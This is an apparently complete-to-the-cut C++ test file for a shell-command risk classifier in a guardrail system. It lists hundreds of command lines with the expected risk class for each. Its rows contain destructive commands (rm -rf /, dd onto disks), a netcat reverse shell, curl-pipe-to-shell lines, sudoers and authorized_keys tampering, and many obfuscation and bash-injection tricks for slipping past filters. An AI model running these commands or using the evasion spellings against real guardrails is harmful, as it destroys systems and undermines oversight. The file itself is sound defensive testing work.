// The shell classifier (DESIGN §4 "Shell"): a table of command lines and the class each must get, then
// the tokenizer on its own (quoting, expansions, operators, heredocs), reasons and effects, config
// programs, and the inputs that must never crash or pass as known (over-long, deep, unbalanced).
#include "guardrails/shell_classifier.hpp"
#include "guardrails/shell_detail.hpp"
#include "guardrails/shell_lexer.hpp"
#include "guardrails/sql_tree.hpp"

#include <catch2/catch.hpp>

#include <chrono>
#include <string>
#include <thread>
#include <vector>

using jitgate::config::RiskClass;
using jitgate::guardrails::ShellClassification;
using jitgate::guardrails::ShellClassifier;
namespace shell = jitgate::guardrails::shell;

namespace {

struct Case {
    std::string_view text;
    RiskClass expected;
};

constexpr RiskClass R = RiskClass::read;
constexpr RiskClass W = RiskClass::write;
constexpr RiskClass A = RiskClass::admin;
constexpr RiskClass X = RiskClass::destructive;
constexpr RiskClass U = RiskClass::unknown;

const ShellClassifier& classifier() {
    static const ShellClassifier instance;
    return instance;
}

// clang-format off
const Case cases[] = {
    // --- plain reads ---
    {"ls -la /var/log", R},
    {"cat /etc/passwd", R},
    {"grep -r ERROR /var/log/app", R},
    {"less /var/log/syslog", R},
    {"head -n 50 app.log", R},
    {"tail -f /var/log/nginx/access.log", R},
    {"ps aux", R},
    {"top -b -n 1", R},
    {"df -h", R},
    {"du -sh /var/lib/postgresql", R},
    {"find /var/log -name '*.gz' -mtime +7", R},
    {"echo hello world", R},
    {"printf '%s\\n' a b", R},
    {"stat /etc/hosts", R},
    {"id", R},
    {"whoami", R},
    {"uname -a", R},
    {"date", R},
    {"date +%Y-%m-%d", R},
    {"env", R},
    {"journalctl -u nginx --since today", R},
    {"free -m && uptime", R},
    {"", R},
    {"   # just a comment", R},
    {"true", R},
    {"A=1", R},
    {"A=1 B=2", R},
    {"cd /tmp; ls", R},
    {"[ -f /etc/hosts ] && echo yes", R},
    {"test -d /tmp || echo no", R},
    {"wc -l < /var/log/syslog", R},
    {"sort data.txt | uniq -c | sort -rn | head", R},
    {"ss -tlnp", R},
    {"ip addr show", R},
    {"ip -b cmds.txt", U},                             // ip reads -b as -batch (-br is -brief)
    {"ip -batch cmds.txt", U},
    {"sysctl net.ipv4.ip_forward", R},
    {"hostname", R},
    {"dmesg | tail", R},
    {"crontab -l", R},
    {"awk '{print $1}' access.log", R},
    {"sed -n '1,10p' file.txt", R},
    {"sed 's/foo/bar/g' file.txt", R},
    {"jq .items config.json", R},
    {"echo $HOME", R},
    {"echo \"$(date)\"", R},
    {"echo `whoami`", R},
    {"diff <(ls a) <(ls b)", R},
    {"command -v rm", R},
    {"type rm", R},
    {"for f in a b c; do echo $f; done", R},
    {"if [ -f x ]; then cat x; else echo none; fi", R},
    {"while true; do uptime; sleep 5; done", R},
    {"{ ls; pwd; }", R},
    {"(cd /tmp && ls)", R},
    {"[[ -f /etc/hosts && -r /etc/hosts ]] && cat /etc/hosts", R},
    {"ls 2>&1", R},
    {"ls 2>/dev/null", R},
    {"ls >/dev/null 2>&1", R},
    {"ls &> /dev/null", R},
    {"cat <<EOF\nrm -rf /\nEOF", R},
    {"cat <<'EOF'\n$(rm -rf /)\nEOF", R},
    {"cat <<-EOF\n\trm -rf /\n\tEOF", R},
    {"grep foo <<< 'rm -rf /'", R},
    {"ls \\\n  -la", R},
    {"nohup ls &", R},
    {"timeout 5 cat /etc/hosts", R},
    {"nice -n 10 du -sh /", R},
    {"ionice -c 3 du -sh /var", R},
    {"stdbuf -oL tail -f log", R},
    {"time ls", R},
    {"env LANG=C ls", R},
    {"watch -n 2 'df -h'", R},
    {"watch kubectl get pods", R},
    {"xargs echo < list.txt", R},
    {"find . -name '*.log' | xargs grep ERROR", R},
    {"sudo -l", R},                                     // DESIGN §4: sudo -l lists, runs nothing
    {"systemctl status nginx", R},
    {"systemctl list-units --failed", R},
    {"systemctl is-active postgresql", R},
    {"systemctl", R},
    {"kubectl get pods -n prod", R},
    {"kubectl describe deployment api", R},
    {"kubectl logs -f api-123 --tail 100", R},
    {"kubectl --context prod get nodes", R},
    {"kubectl rollout status deploy/api", R},
    {"docker ps -a", R},
    {"docker logs --tail 50 web", R},
    {"docker container ls", R},
    {"git status", R},
    {"git log --oneline -n 20", R},
    {"git diff HEAD~1", R},
    {"git -C /srv/app log", R},
    {"curl -s https://example.com/health", R},
    {"curl -sS https://api/x | jq .", R},
    {"wget -qO- https://example.com", R},
    {"ssh web-1 uptime", A},                            // DESIGN §4: a hop is at least admin
    {"ssh -p 2222 web-1 'df -h; free -m'", A},
    {"sh -c 'ls -la'", R},
    {"bash -c \"echo hi\"", R},
    {"bash -lc 'cat /etc/os-release'", R},
    {"sudo -u postgres ls /var/lib/postgresql", A},
    {"python3 --version", R},
    {"openssl x509 -in cert.pem -noout -text", R},
    {"dpkg -l | grep nginx", R},
    {"apt list --installed", R},
    {"pip list", R},
    {"tar -tzf backup.tgz", R},
    {"tar tzf backup.tgz", R},
    {"zcat log.gz | grep x", R},
    {"/bin/ls /", R},
    {"/usr/bin/env", R},
    {"x=$(hostname); echo $x", R},
    {"echo ${HOME:-/root}", R},
    {"echo $((1 + 2))", R},
    {"echo 'a;b|c&&d'", R},
    {"echo \"rm -rf /\"", R},
    {"echo rm -rf /", R},
    {"echo hi | tee /dev/null", R},
    {"export LANG=C", R},
    {"kill -l", R},
    {"history | tail", R},

    // --- writes ---
    {"echo hi > /tmp/out.txt", W},
    {"echo hi >> notes.txt", W},
    {"ls > listing.txt", W},
    {"ls 2> errors.log", W},
    {"ls &> all.log", W},
    {"cp a.txt b.txt", W},
    {"mv old.log old.log.1", W},
    {"mkdir -p /srv/app/releases", W},
    {"touch /tmp/marker", W},
    {"echo x | tee out.txt", W},
    {"sed -i 's/a/b/' config.ini", W},
    {"sed -i.bak -e 's/a/b/' app.conf", W},
    {"rm /tmp/file.txt", X},                            // DESIGN §4: every deletion is destructive
    {"rm -f *.log", X},
    {"rmdir /tmp/empty", X},
    {"curl -o out.html https://example.com", W},
    {"curl -O https://example.com/file.tgz", W},
    {"curl -X POST -d '{}' https://api/x", W},
    {"wget https://example.com/file.tgz", W},
    {"wget -O file.tgz https://example.com/file.tgz", W},
    {"git pull", W},
    {"git commit -am 'fix'", W},
    {"git checkout -b feature", W},
    {"git push origin main", W},
    {"kubectl apply -f deploy.yaml", W},
    {"kubectl edit configmap app", W},
    {"docker pull nginx:latest", W},
    {"tar czf backup.tgz /srv/app", W},
    {"tar -xzf release.tgz -C /srv/app", W},
    {"unzip app.zip", W},
    {"gzip big.log", W},
    {"ln -s /srv/app/current /srv/app/live", W},
    {"sort -o sorted.txt data.txt", W},
    {"scp file.txt web-1:/tmp/", A},                    // a copy to another host is a hop
    {"rsync -av src/ dst/", W},
    {"cat > file.txt <<EOF\nhello\nEOF", W},
    {"exec 3> /tmp/fd3", W},
    {"echo $(touch /tmp/x)", W},
    {"ls $(mkdir /tmp/d)", W},
    {"timeout 10 cp a b", W},
    {"env A=1 touch x", W},
    {"ssh web-1 'echo hi > /tmp/x'", A},
    {"sh -c 'cp a b'", W},
    {"date > now.txt", W},

    // --- admin ---
    {"systemctl restart nginx", A},
    {"systemctl stop postgresql", A},
    {"systemctl reload nginx", A},
    {"systemctl start app.service", A},
    {"systemctl mask apache2", A},
    {"systemctl disable --now cron", A},
    {"systemctl daemon-reload", A},
    {"service nginx restart", A},
    {"chmod 600 /srv/app/key.pem", A},
    {"chown -R www-data:www-data /srv/app", A},
    {"kill -9 12345", A},
    {"kill 4242", A},
    {"pkill -f gunicorn", A},
    {"killall nginx", A},
    {"useradd deploy", A},
    {"passwd alice", A},
    {"iptables -A INPUT -p tcp --dport 22 -j ACCEPT", A},
    {"mount /dev/sdb1 /mnt", A},
    {"apt install -y nginx", A},
    {"apt-get update", A},
    {"yum install httpd", A},
    {"pip install requests", A},
    {"sudo ls /root", A},
    {"sudo -u www-data cat /srv/app/.env", A},
    {"doas ls", A},
    {"sudo systemctl restart nginx", A},
    {"sysctl -w vm.swappiness=10", A},
    {"hostname web-2", A},
    {"date -s '2026-01-01 00:00'", A},
    {"ip link set eth0 down", A},
    {"kubectl scale deploy api --replicas=0", A},
    {"kubectl rollout restart deploy/api", A},
    {"kubectl drain node-1", A},
    {"docker restart web", A},
    {"docker stop web", A},
    {"docker run --rm alpine echo hi", A},
    {"crontab jobs.txt", U},
    {"journalctl --vacuum-time=2d", X},                // DESIGN §4: deleting logs is destructive
    {"echo key >> ~/.ssh/authorized_keys", A},
    {"timeout 30 systemctl restart app", A},
    {"nohup systemctl restart app &", A},
    {"ssh web-1 sudo systemctl restart app", A},
    {"bash -c 'systemctl restart nginx'", A},
    {"echo $(kill 123)", A},
    {"ls; systemctl restart nginx", A},
    {"find / -name core -exec chmod 600 {} +", A},

    // --- destructive ---
    {"rm -rf /tmp/build", X},
    {"rm -r old", X},
    {"rm -R old", X},
    {"rm --recursive old", X},
    {"rm -fr /", X},
    {"rm /etc/passwd", X},
    {"rm -f /boot/vmlinuz", X},
    {"rm \"-rf\" /", X},
    {"'r''m' -rf /", X},
    {"\\rm -rf /", X},
    {"r\\m -rf /", X},
    {"\"rm\" -rf /", X},
    {"command rm -rf /", X},
    {"/bin/rm -rf /", X},
    {"/usr/bin/../bin/rm -rf /", X},
    {"//bin//rm -rf /tmp/x", X},
    {"$'\\x72\\x6d' -rf /", X},
    {"$'rm' -rf /", X},
    {"rm /tmp/x -rf", X},
    {"rm -- -rf", X},
    {"rm $FLAGS /tmp/x", X},
    {"rm /etc/*", X},
    {"shutdown -h now", X},
    {"reboot", X},
    {"poweroff", X},
    {"mkfs.ext4 /dev/sdb1", X},
    {"mkfs -t xfs /dev/sdc", X},
    {"dd if=/dev/zero of=/dev/sda bs=1M", X},
    {"shred -u secrets.txt", X},
    {"wipefs -a /dev/sdb", X},
    {"echo x > /etc/passwd", X},
    {"echo x >> /etc/hosts", X},
    {"cat x > /dev/sda", X},
    {"echo 1 > /proc/sys/kernel/sysrq", X},
    {"echo b > /proc/sysrq-trigger", X},
    {"echo x > /boot/grub/grub.cfg", X},
    {"echo x > /dev/nvme0n1", X},
    {"echo x > /sys/class/leds/x/brightness", X},
    {"echo x > /tmp/../etc/shadow", X},
    {"cp evil /usr/bin/ls", X},
    {"mv /etc/passwd /tmp/", X},
    {"tee /etc/resolv.conf < resolv", X},
    {"sed -i 's/x/y/' /etc/ssh/sshd_config", X},
    {"kubectl delete pod api-123", X},
    {"kubectl delete ns prod", X},
    {"docker rm -f web", X},
    {"docker rmi nginx", X},
    {"docker system prune -af", X},
    {"git reset --hard origin/main", X},
    {"git push --force origin main", X},
    {"git push -f", X},
    {"git clean -fdx", X},
    {"git branch -D feature", X},
    {"find /var/log -name '*.gz' -delete", X},
    {"find /tmp -name '*.tmp' -exec rm {} \\;", X},  // {} is every match: a path not known statically
    {"find . -type f | xargs rm", X},
    {"find . -exec rm -rf {} +", X},
    {"find /tmp | xargs rm -rf", X},
    {"xargs rm -rf < dirs.txt", X},
    {"sudo rm -rf /var/lib/app", X},
    {"sudo -u root rm -rf /", X},
    {"doas rm -rf /", X},
    {"nohup rm -rf /data &", X},
    {"timeout 5 rm -rf /data", X},
    {"timeout -s KILL 5 rm -rf /data", X},
    {"env A=b rm -rf /data", X},
    {"nice -n 5 rm -rf /data", X},
    {"ionice -c3 rm -rf /data", X},
    {"stdbuf -o0 rm -rf /data", X},
    {"time rm -rf /data", X},
    {"watch rm -rf /data", X},
    {"watch -n 5 'rm -rf /data'", X},
    {"sh -c 'rm -rf /'", X},
    {"bash -c \"rm -rf /\"", X},
    {"sh -c 'sh -c \"rm -rf /\"'", X},
    {"ssh web-1 'rm -rf /var/www'", X},
    {"ssh web-1 rm -rf /var/www", X},
    {"ssh -i key -p 22 user@web-1 'sudo rm -rf /'", X},
    {"ls; rm -rf /", X},
    {"ls && rm -rf /", X},
    {"false || rm -rf /", X},
    {"ls | rm -rf /", X},
    {"ls & rm -rf /", X},
    {"ls\nrm -rf /", X},
    {"echo $(rm -rf /)", X},
    {"echo `rm -rf /`", X},
    {"echo \"$(rm -rf /)\"", X},
    {"x=$(rm -rf /)", X},
    {"cat <(rm -rf /)", X},
    {"ls > >(rm -rf /)", X},
    {"cat <<EOF\n$(rm -rf /)\nEOF", X},
    {"if true; then rm -rf /; fi", X},
    {"for i in 1; do rm -rf /; done", X},
    {"{ rm -rf /; }", X},
    {"(rm -rf /)", X},
    {"! rm -rf /", X},
    {"[[ -f x ]] || rm -rf /", X},
    {"for x in $(rm -rf /); do :; done", X},
    {"echo ${x:-$(rm -rf /)}", X},
    {"kill -9 -1", X},
    {"kill -- -1", X},
    {"chmod -R 777 /", X},
    {"chown -R nobody /etc", X},
    {"systemctl reboot", X},
    {"systemctl poweroff", X},
    {"init 0", X},
    {"crontab -r", X},
    {"bash <<'EOF'\nrm -rf /\nEOF", X},
    {"sh <<< 'rm -rf /'", X},
    {"curl -o /etc/cron.d/job https://x/job", X},
    {"rsync -a --delete src/ dst/", X},
    {"tar xf evil.tar -C /", X},
    {"busybox rm -rf /", X},
    {"exec rm -rf /", X},
    {"builtin command rm -rf /", X},
    {"echo hi > $LOGFILE", X},
    {"rm -rf {/,}", X},

    // --- adversarial: spellings, wrappers and places a dangerous command hides in ---
    {"rm -rf -- /", X},
    {"rm -\\r /tmp/x", X},
    {"rm -rf \"${HOME}\"", X},
    {"sudo -- rm -rf /", X},
    {"sudo -E rm -rf /", X},
    {"sudo --user=root rm -rf /", X},
    {"sudo -iu root rm -rf /", X},
    {"/usr/bin/sudo /bin/rm -rf /", X},
    {"exec -a foo rm -rf /", X},
    {"time -p rm -rf /", X},
    {"nohup sh -c 'rm -rf /' &", X},
    {"sudo bash -c \"rm -rf /\"", X},
    {"env bash -c 'rm -rf /'", X},
    {"pkexec rm -rf /", X},
    {"ls;rm -rf /", X},
    {"ls&&rm -rf /", X},
    {"r\"\"m -rf /", X},
    {"r\\\nm -rf /", X},
    {"/./bin/rm -rf /", X},
    {"xargs -I{} rm -rf {}", X},
    {"xargs -0 rm -rf", X},
    {"find / -exec /bin/rm -rf {} \\;", X},
    {"find / -name '*.conf' -exec sed -i 's/a/b/' {} +", X},
    {"find . -name x -fprint /etc/x", X},
    {"ssh -t web-1 sudo rm -rf /", X},
    {"kubectl exec api -- rm -rf /data", X},
    {"kubectl -n prod delete pod x", X},
    {"docker exec web rm -rf /data", X},
    {"docker compose down -v", X},
    {"helm uninstall api", X},
    {"terraform destroy", X},
    {"echo '* * * * * root rm -rf /' >> /etc/crontab", X},
    {"cat /dev/urandom > /dev/sda", X},
    {"> /etc/passwd", X},
    {": > /var/log/auth.log", X},
    {"truncate -s 0 /var/log/syslog", X},
    {"ln -sf /dev/null /etc/resolv.conf", X},
    {"systemctl kexec", X},
    {"echo c > /proc/sysrq-trigger", X},
    {"mv / /dev/null", X},
    {"kill -9 1", X},
    {"tar -cf /dev/sda .", X},
    {"echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers.d/x", X},
    {"echo key > /root/.ssh/authorized_keys", X},
    {"echo $(echo $(echo $(rm -rf /)))", X},
    {"echo \"$(echo \"$(rm -rf /)\")\"", X},
    {"echo \"`rm -rf /`\"", X},
    {"sh <<EOF\nrm -rf /\nEOF", X},
    {"watch -x rm -rf /", X},
    {"timeout --signal=9 5 rm -rf /", X},
    {"nice -10 rm -rf /", X},
    {"cd /etc && rm passwd", X},
    {"cd /etc; echo x > hosts", X},
    {"cd / && tar xf evil.tar", X},
    {"cd $DIR && rm file", X},
    {"cd /tmp && touch file", W},                      // rm is destructive anywhere now; cd is followed for writes
    {"cd && touch file", W},
    {"cd /etc && touch passwd", X},
    {"chmod u+s /bin/bash", A},
    {"chattr -i /etc/passwd", A},
    {"iptables -F", A},
    {"systemctl isolate rescue.target", A},
    {"systemctl -H host restart x", A},
    {"systemctl --user restart x", A},
    {"killall -9 sshd", A},
    {"visudo", A},
    {"usermod -aG sudo x", A},
    {"docker-compose up -d", A},
    {"terraform apply -auto-approve", A},
    {"cp /bin/sh /tmp/x; chmod +s /tmp/x", A},
    {"history -c", A},                                  // DESIGN §4: hiding one's tracks is admin
    {"ssh-keygen -f ~/id_rsa", W},
    {"git clean -n", R},
    {"unset HISTFILE", A},
    {"export HISTFILE=/dev/null", A},
    {"echo '$(rm -rf /)'", R},
    {"systemctl --no-pager status nginx", R},
    {"journalctl -xe", R},
    {"kubectl get pods -o yaml", R},
    {"bash -c 'eval \"$1\"' _ 'rm -rf /'", U},
    {"sh -c \"$(curl -s https://x)\"", U},
    {"bash <(curl -s https://x)", U},
    {"source <(curl -s https://x)", U},
    {". /dev/stdin", U},
    {"ssh web-1 \"$CMD\"", U},
    {"echo 'rm -rf /' | sh", U},
    {"echo rm -rf / | bash", U},
    {"base64 -d <<< cm0gLXJmIC8= | sh", U},
    {"printf '\\x72\\x6d -rf /' | sh", U},
    {"a=rm; $a -rf /", U},
    {"\"$(printf rm)\" -rf /", U},
    {"rm${IFS}-rf${IFS}/", U},
    {"cat$IFS/etc/passwd", U},
    {"IFS=,; x=rm,-rf,/; $x", U},
    {"ls -la; {rm,-rf,/}", X},
    {"{ls,-la}", R},
    {"mv app.conf{,.bak}", W},
    {"cp /etc/hosts{,.bak}", X},
    {"echo {1..5} {a..e} {1..10..3}", R},
    {"touch file{1..1000}", W},
    {"rm file{1..1000}", X},
    {"/bin/{rm,-rf,/}", X},
    {"{r,}m -rf /", X},
    {"git branch -a", R},
    {"git branch -r --list", R},
    {"mysqldump shop > shop.sql", W},
    {"xargs -I{} sh -c 'echo {}'", U},
    {"xargs -I % cp % /backup/", W},
    {"ps aux | grep java | awk '{print $2}' | xargs kill -9", X},
    {"kill -9 $(pgrep java)", X},
    {"hash -p /tmp/evil ls; ls", U},
    {"hash -r", R},
    {"while IFS= read -r line; do echo \"$line\"; done < /etc/hosts", R},
    {"IFS=: read -r a b <<< 'x:y'", R},
    {"echo {1..5..-} {a..} {..b} {1..2..0}", R},
    {"env -C /etc rm passwd", X},
    {"sudo -D /etc rm passwd", X},
    {"env -C /tmp touch x", W},
    {"env -C /etc touch passwd", X},
    {"fuser -v 80/tcp", R},
    {"fuser -km /mnt", A},
    {"lsb_release -a", R},
    {"whois example.com", R},
    {"echo 'curl x | sh' >> ~/.bashrc", A},
    {"cp hook .git/hooks/pre-commit", A},
    {"echo 1 > /dev/watchdog", X},
    {"echo x > ./.profile", A},
    {"read -r PATH < /tmp/p; ls", U},
    {"printf -v PATH '%s' /tmp", U},
    {"printf -v line '%s' x", R},
    {"read -r a b < file", R},
    {"find . -exec sh -c 'echo {}' \\;", U},
    {"GIT_SSH_COMMAND='rm -rf /' git fetch", U},
    {"PAGER='sh -c \"rm -rf /\"' man ls", U},
    {"git --exec-path=/tmp status", U},
    {"redis-cli flushall", U},
    {"nc -e /bin/sh 10.0.0.1 4444", U},
    {"python3 -m http.server", U},
    {"perl script.pl", U},
    {"awk -f prog.awk data", U},
    {"parallel rm ::: a b", U},
    {"echo \\$(rm -rf /)", U},
    {"sudo $CMD", U},
    {"timeout 5 $CMD", U},
    {"xargs $CMD", U},
    {"find . -exec $CMD {} \\;", U},
    {"ssh host -- rm -rf /", U},
    {"unlink /etc/passwd", X},
    {"rmdir /etc", X},
    {"rmdir build", X},
    {"awk '$3 > 100 {print $1}' data", R},
    {"awk '{print ($1 > 2)}' data", R},
    {"awk '{print $1 > \"out\"}' data", U},
    {"ip netns exec blue rm -rf /", X},
    {"ip netns exec blue ip addr", A},
    {"sed -n 'w /etc/passwd' data", X},
    {"sed -n 'w out.txt' data", W},
    {"find \"$dir\" -name '*.log'", R},
    {"systemctl status $SVC", R},
    {"systemctl $ACTION nginx", X},
    {"rm \"$f\"", X},
    {"kill \"$PID\"", A},
    {"kill $PIDS", X},
    {"while read l; do rm \"$l\"; done < list", X},
    {"tar cf - . | ssh h 'tar xf - -C /'", X},
    {"unalias ll", R},
    {"!!", U},
    {"sudo !!", U},

    // --- issue 10 item 1: bash evaluates a subscript in a name, and every arithmetic context, as code ---
    // Each unknown row was run under bash 5.2 with `touch` in place of rm and the file appeared.
    {"[[ -v 'a[$(rm f)]' ]]", U},
    {"[[ -v HOME ]]", R},
    {"[[ 'a[$(rm -rf /tmp/d)]' -eq 1 ]]", U},
    {"x='a[$(rm -rf /tmp/d)]'; [[ $x -eq 1 ]]", U},
    {"x='a[$(rm f)]'; [[ x -eq 1 ]]", U},
    {"[[ 1 -lt $n ]]", U},
    {"[[ $# -gt 0 ]]", R},                             // $#, $?, ${#x} are always a number
    {"[[ ${#x} -lt 3 && $? -eq 0 ]]", R},
    {"[[ ${#x[y]} -lt 3 ]]", U},
    {"[[ \"$#\" -gt 0 ]]", U},
    {"[[ $#$x -gt 0 ]]", U},
    {"echo $(( $# + 1 )) $(( ${#x} * 2 ))", R},
    {"echo $(( ${#x[i]} ))", U},
    {"[[ 1 -eq 1 ]]", R},
    {"[[ 0x10 -ge 2#101 ]] && echo y", R},
    {"[[ $x == y ]]", R},
    {"(( a[$(rm -rf /tmp/d)] ))", U},
    {"((a[$(rm -rf /tmp/d)]))", U},
    {"((ls))", U},                                     // bash runs it as arithmetic, not as nested subshells
    {"x='a[$(rm f)]'; ((x))", U},
    {"((1 + 2))", R},
    {"if ((1 > 0)); then echo y; fi", R},
    {"((1)) && rm -rf /tmp/d", X},
    {"((cd /tmp; ls) )", R},                           // `((` not closed by `))`: nested subshells
    {"((1)) ls", U},
    {"x='a[$(rm -rf /tmp/d)]'; echo $((x))", U},
    {"echo $(( $x ))", U},
    {"echo $((LC_X))", U},                             // LC_* reaches the target's environment
    {"x='a[$(rm f)]'; echo $[x]", U},
    {"echo $[1+2]", R},
    {"echo $((1+2)) $((0x1f * 2)) $(( (3 - 1) % 2 ))", R},
    {"echo \"$((1+2))\"", R},
    {"echo \"${x:-$((y))}\"", U},
    {"y=$((x))", U},
    {"export y=$((x))", U},
    {"echo `echo $((x))`", U},
    {"ls > ${a[x]}", U},
    {"shopt -s extdebug; ls", R},                      // alone it runs nothing; a DEBUG trap is judged as a trap
    {"x='a[$(rm f)]'; a=(1 2); echo ${a[x]}", U},
    {"echo ${a[i]}", U},
    {"echo ${a[1]} ${a[@]} ${#a[*]} ${!a[@]}", R},
    {"echo ${!a[x]}", U},
    {"echo ${a[x]:-q}", U},
    {"x='a[$(rm f)]'; s=abc; echo ${s:x}", U},
    {"echo ${s:0:x}", U},
    {"echo ${s:1:2} ${s: -1}", R},
    {"echo ${a[@]:x}", U},
    {"x='a[$(rm f)]'; echo ${!x}", U},
    {"echo ${!BASH*} ${!BASH@}", R},
    {"x='$(rm f)'; echo \"${x@P}\"", U},
    {"echo ${x@Q} ${x@U} ${x^^} ${x,} ${x/a/b} ${x#*/} ${x%%.*} ${#x} ${x:-d} ${x:+y}", R},
    {"x='a[$(rm f)]'; : ${y:=$x}; echo $((y))", U},
    {": ${y:=1}", R},
    {"unset PS4; : ${PS4:='$(rm f)'}; set -x; ls", U},
    {"cat <<E\n$((x))\nE", U},
    {"cat <<'E'\n$((x))\nE", R},
    {"cat <<< \"$((x))\"", U},
    {"for ((i=x;i<1;i++)); do :; done", U},
    {"RANDOM='a[$(rm -rf /tmp/d)]'", U},
    {"SRANDOM='a[$(rm f)]'", U},
    {"OPTIND='a[$(rm f)]'", U},
    {"HISTCMD='a[$(rm f)]'", U},
    {"OPTIND=1", R},
    {"for PATH in /tmp; do ls; done", U},
    {"for 'a[$(rm f)]' in 1; do :; done", U},
    {"for RANDOM in 'a[$(rm f)]'; do :; done", U},
    {"for i in 1 2; do echo $i; done", R},
    // neighbouring places bash reads text as code, unknown already (kept as rows so they stay so)
    {"BASH_ENV=/tmp/x bash -c ls", U},
    {"complete -C 'rm f' ls", U},
    {"complete -F f ls", U},
    {"compgen -W '$(rm f)' x", U},
    {"enable -f /tmp/x.so x", U},
    {"fc -e 'rm f' -1", U},
    {"fc -s", U},
    {"bind -x '\"\\C-a\": rm f'", U},
    {"command_not_found_handle() { rm f; }; nosuch", U},
    {"eval 'ls'", U},
    {"source /tmp/x", U},
    {". /tmp/x", U},
    {"exec {fd}>/tmp/x", U},
    {"exec {a[$(rm f)]}>/dev/null", U},
    {"BASH_CMDS[ls]=/tmp/evil; ls", U},
    {"alias ls='rm f'", U},
    {"echo rm; $_ f", U},

    // --- issue 10 item 1: builtins that take a variable name, and builtins that run a string as code ---
    {"command printf -v 'a[$(rm -rf /tmp/d)]' x", U},
    {"builtin printf -v 'a[$(rm -rf /tmp/d)]' x", U},
    {"printf -v 'a[$(rm -rf /tmp/d)]' x", U},
    {"printf -va[$(rm -rf /tmp/d)] x", U},
    {"printf -v \"a[\\$(rm -rf /tmp/d)]\" x", U},
    {"x=$'a[$(rm f)]'; printf -v \"$x\" y", U},
    {"f='-v a[$(rm f)]'; printf $f y", U},
    {"printf -v x %s hi", R},
    {"printf -v 'a[1]' %s hi", R},
    {"printf '%s %d\\n' a 'a[$(rm f)]'", R},          // %d arguments are not arithmetic (checked)
    {"let 'a[$(rm -rf /tmp/d)]=1'", U},
    {"let x=1+2", R},
    {"let '1 + 2'", R},
    {"let i++", U},
    {"let x=y", U},
    {"declare 'a[$(rm -rf /tmp/d)]=1'", U},
    {"typeset 'a[$(rm f)]=1'", U},
    {"local 'a[$(rm f)]=1'", U},
    {"declare -g 'a[$(rm f)]=1'", U},
    {"declare x=1", R},
    {"declare x='a[$(rm f)]'", R},                     // a plain variable holds any string
    {"declare -r x=1 y", R},
    {"declare -p x", R},
    {"local -", R},
    {"declare -i x='a[$(rm f)]'", U},
    {"declare -i x; x='a[$(rm f)]'", U},
    {"declare -i n=5", U},
    {"declare -n r='a[$(rm f)]'; r=1", U},
    {"local -n r=x", U},
    {"declare -a a='([$(rm f)]=1)'", U},
    {"declare -A m='([$(rm f)]=1)'", U},
    {"declare -a arr", R},
    {"declare \"$n\"=1", U},
    {"export \"x$y\"=1", U},
    {"export A=1 B=2", R},
    {"read 'a[$(rm -rf /tmp/d)]' <<< x", U},
    {"read -r a 'b[$(rm f)]' < file", U},
    {"read -a 'a[$(rm f)]' <<< x", U},
    {"read -r OPTIND < file", U},
    {"read -r -p 'name: ' name", R},
    {"read -ra parts <<< 'a b'", R},
    {"a=(1); unset 'a[$(rm -rf /tmp/d)]'", U},
    {"declare -a a; unset 'a[$(rm -rf /tmp/d)]'", U},
    {"unset 'a[$(rm f)]'", U},
    {"unset x y", R},
    {"unset -f myfunc", R},
    {"unset 'a[1]'", R},
    {"test -v 'a[$(rm -rf /tmp/d)]'", U},
    {"[ -v 'a[$(rm f)]' ]", U},
    {"test -v HOME", R},
    {"x='-v a[$(rm f)]'; [ $x ]", U},
    {"[ -n \"$x\" ]", R},
    {"[ $# -eq 0 ] && echo none", R},
    {"[ ${#x} -gt 0 ]", R},
    {"x='a[$(rm f)]'; [ \"$x\" -eq 1 ]", R},          // test's -eq reads a number, no arithmetic (checked)
    {"mapfile -C 'rm -rf /tmp/d #' -c 1 arr <<< a", U},
    {"readarray -C 'rm f' arr < file", U},
    {"mapfile -t lines < file", R},
    {"mapfile 'a[$(rm f)]' < file", U},
    {"sleep 1 & wait -p 'a[$(rm f)]' $!", U},
    {"sleep 1 & wait -p pid $!", R},
    {"getopts ab 'a[$(rm f)]'", U},
    {"getopts ab opt", R},
    {"read -r RANDOM < file", U},
    {"printf -v OPTIND %s 'a[$(rm f)]'", U},
    {"trap 'rm -rf /tmp/d' EXIT", X},
    {"trap -- 'rm f' EXIT; cd /etc", X},              // a trap runs later, wherever cd went
    {"trap 'ls' INT", R},
    {"trap \"$CMD\" EXIT", U},
    {"trap - INT", R},
    {"PS4='$(rm f)'; set -x; ls", U},
    {"export PS4='$(rm f)'", U},
    {"read -r PS4 < file; set -x; ls", U},
    {"printf -v PS4 %s '$(rm f)'", U},
    {"declare PROMPT_COMMAND='rm f'", U},
    {"set -x; ls", R},
    {"set -euo pipefail; ls", R},
    {"set -k; ls LD_PRELOAD=/tmp/x.so", U},
    {"set -o keyword", U},
    {"set -o vi", R},
    {"set -- 'a[$(rm f)]'; echo $(($1))", U},
    {"set $opts", U},
    {"shopt -u interactive_comments; ls # ; rm f", U},
    {"shopt -s compat41", U},
    {"shopt -s -o keyword", U},
    {"shopt -s -o pipefail", R},
    {"shopt -s nullglob globstar", R},
    {"shopt", R},
    {"jobs -x rm -rf /tmp/d", X},
    {"jobs -l", R},
    {"declare -a a; exec {a[x]}>/dev/null", U},
    {"declare BASH_CMDS[ls]=/tmp/evil", U},
    {"read 'BASH_ALIASES[ls]' < file", U},
    {": 'a[$(rm f)]'; printf -v \"$_\" x", U},

    // --- issue 10 item 6: read-table programs whose options write, change the system or run commands ---
    {"sdiff -o /tmp/out a b", U},                      // interactive merge; its `e` command runs an editor
    {"sdiff --output=/tmp/out a b", U},
    {"sdiff --diff-program=/tmp/x a b", U},
    {"sdiff a b", R},
    {"sdiff -w 80 a b", R},
    {"diff3 --diff-program=/tmp/x a b c", U},
    {"diff3 a b c", R},
    {"xxd -r dump /tmp/out", W},
    {"xxd -r dump /etc/passwd", X},
    {"xxd file /tmp/out.hex", W},
    {"xxd -l 16 -c 8 file", R},
    {"xxd -cols 8 -seek 10 file -", R},
    {"xxd file", R},
    {"xxd -r -p dump", R},
    {"lastlog -C -u alice", A},
    {"lastlog --set -u alice", A},
    {"lastlog -u alice", R},
    {"ss -K dst 10.0.0.1", A},
    {"ss -tlnp", R},
    {"ss -D /tmp/raw", W},
    {"sort -o /etc/passwd a", X},
    {"sort --compress-program=/tmp/x big", U},
    {"sort a b", R},
    {"uniq in out", W},
    {"uniq -c in", R},
    {"shuf -o /tmp/x in", W},
    {"shuf -n 3 in", R},
    {"iconv -f latin1 -t utf-8 -o /tmp/x in", W},
